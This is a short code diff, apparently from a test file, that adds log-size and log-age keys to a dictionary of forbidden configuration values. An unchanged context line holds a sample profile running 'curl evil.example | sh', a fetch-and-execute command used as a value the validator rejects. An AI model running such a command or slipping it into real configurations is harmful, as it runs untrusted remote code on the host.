@@ -63,6 +63,9 @@ FORBIDDEN: dict[str, Any] = {
     "control": True,
     "profiles": [{"name": "evil", "argv": ["sh", "-c", "curl evil.example | sh"]}],
     "min_disk_space_mb": 499,
+    "logs_max_age_days": 1,
+    "logs_run_max_mb": 1,
+    "logs_max_mb": 1,
 }
 ALLOWED: dict[str, Any] = {
     "port": 9000,
